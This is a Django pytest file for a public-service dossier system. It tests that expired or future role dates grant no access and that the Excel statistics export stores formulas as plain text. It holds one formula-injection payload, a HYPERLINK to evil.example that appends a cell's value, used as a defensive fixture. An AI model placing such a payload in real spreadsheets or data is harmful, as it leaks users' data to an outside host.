"""Finding 3 (role dates) and finding 8 (formula injection in the Excel export)."""

from __future__ import annotations

import zipfile
from datetime import date, timedelta
from io import BytesIO

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from motcua.access.services import issue_token
from motcua.dossiers.errors import DossierNotFound
from motcua.dossiers.selectors import dossiers_visible_to, get_dossier_for
from motcua.dossiers.services import complete_step
from motcua.org.models import Membership
from motcua.org.selectors import has_role, roles_of, units_of
from tests.dossiers.helpers import receive
from tests.factories import make_procedure, make_staff
from tests.reports.helpers import at, dossier_row

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?"&B9,"Bấm")'


def _dated(staff, **dates):
    Membership.objects.filter(staff=staff).update(**dates)


def test_a_role_that_ended_grants_nothing(office):
    _dated(office.specialist, until_on=date(2020, 12, 31))
    assert roles_of(office.specialist) == frozenset()
    assert not has_role(office.specialist, office.ward, "specialist")
    assert not units_of(office.specialist).exists()
    assert not dossiers_visible_to(office.specialist).exists()


def test_a_role_not_yet_begun_grants_nothing_and_one_in_force_does(office):
    today = timezone.localdate()
    _dated(office.specialist, since_on=today + timedelta(days=1))
    assert not has_role(office.specialist, office.ward, "specialist")
    _dated(office.specialist, since_on=today, until_on=today)  # both ends inclusive
    assert has_role(office.specialist, office.ward, "specialist")
    assert roles_of(office.specialist) == {(office.ward.pk, "specialist")}


def test_a_role_that_ended_in_2020_cannot_complete_a_step(office):
    procedure = make_procedure(units=[office.ward])
    created = receive(office, procedure, now=timezone.now())
    dossier = created.dossier
    step = dossier.steps.order_by("order").filter(finished_at__isnull=True).first()
    assert step is not None
    holder = make_staff(username="daxong", roles=[(office.ward, step.role)])
    _dated(holder, until_on=date(2020, 12, 31))
    with pytest.raises(Exception) as refused:
        complete_step(step_id=step.pk, actor=holder, note="")
    assert not isinstance(refused.value, AssertionError)
    step.refresh_from_db()
    assert step.finished_at is None
    with pytest.raises(DossierNotFound):
        get_dossier_for(holder, dossier.code)


def test_a_formula_in_a_name_is_written_as_text_in_the_excel_export(client, office):
    procedure = make_procedure(units=[office.ward], name=EVIL)
    dossier_row(unit=office.ward, procedure=procedure, received_at=at(2026, 1, 5)).save()
    leader = make_staff(username="lanhdaotp", roles=[(office.city, "leader")])
    token = issue_token(staff=leader)[0]
    answer = client.get(
        "/api/v1/stats/dossiers.xlsx",
        {"from": "2026-01-01", "to": "2026-02-01", "group_by": "procedure"},
        headers={"Authorization": f"Bearer {token}"},
    )
    assert answer.status_code == 200
    with zipfile.ZipFile(BytesIO(answer.content)) as book:
        sheet_xml = book.read("xl/worksheets/sheet1.xml").decode()
        strings = "".join(
            book.read(n).decode() for n in book.namelist() if n.endswith("sharedStrings.xml")
        )
    assert "<f>" not in sheet_xml  # no formula anywhere
    assert "HYPERLINK" in sheet_xml + strings
    sheet = load_workbook(BytesIO(answer.content)).active
    names = [c for c in sheet["B"] if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert names and all(c.data_type == "s" for c in names)
